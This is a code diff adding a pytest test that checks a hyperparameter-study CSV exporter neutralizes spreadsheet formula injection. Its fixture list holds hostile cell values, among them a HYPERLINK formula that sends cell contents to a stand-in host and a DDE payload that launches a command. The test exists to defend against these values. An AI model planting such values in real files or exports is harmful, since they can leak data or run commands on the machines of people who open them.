@@ -364,3 +364,41 @@ def test_the_report_names_a_best_parameter_at_the_edge_of_its_range():
         study.add_trial(create_trial(value=value, params={"learning_rate": rate}, distributions={"learning_rate": lr}))
     (row,) = studies_frame([study]).to_dict("records")
     assert row["at_edge"].startswith("search_space.learning_rate: the best value 0.00098 is at the high end")
+
+
+def test_csv_cells_a_spreadsheet_would_run_are_neutralized(tmp_path):
+    # Study names and parameter values went into trials.csv raw: `=HYPERLINK(...)` opened in a spreadsheet ran
+    # as a formula. Each text cell that starts like one gets a leading ' (OWASP); numbers stay numbers.
+    import csv
+    import re
+
+    import optuna
+    from optuna.distributions import CategoricalDistribution, FloatDistribution
+    from optuna.trial import create_trial
+
+    from hpo.tables import write_csv
+
+    hostile = ['=HYPERLINK("http://x.example/?"&A1,"open")', "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1", "＝1"]
+    choice = CategoricalDistribution(hostile + ["-0.5", "plain"])
+    rate = FloatDistribution(-5.0, 1.0)
+    studies = []
+    for name in (*hostile[:4], " =1+1"):
+        study = optuna.create_study(study_name=name)
+        study.set_user_attr("config", {"task": "sequence-classification", "objective": {"metric": "eval_loss"}})
+        for i, value in enumerate([*hostile, "-0.5", "plain"]):
+            params = {"scheduler": value, "shift": -0.25 * i}
+            study.add_trial(
+                create_trial(value=-1.5 + i, params=params, distributions={"scheduler": choice, "shift": rate})
+            )
+        studies.append(study)
+    trials, summary = write_csv(trials_frame(studies), studies_frame(studies), tmp_path / "t.csv")
+    for path in (trials, summary):
+        with path.open(newline="") as f:
+            rows = list(csv.reader(f))
+        cells = [c for row in rows for c in row]
+        formulas = [c for c in cells if c.lstrip(" ").startswith(("=", "+", "-", "@", "\t", "\r", "＝"))]
+        assert all(re.fullmatch(r"-\d+(\.\d+)?", c) for c in formulas), formulas  # negative numbers only
+        assert {f"'{name}" for name in (*hostile[:4], " =1+1")} <= set(cells)  # the study column
+    rows = pd.read_csv(trials)
+    assert rows["objective"].min() == -1.5 and rows["params_shift"].min() == -1.75  # numbers, negative and all
+    assert set(pd.read_csv(trials, dtype=str)["params_scheduler"]) == {f"'{v}" for v in hostile} | {"-0.5", "plain"}
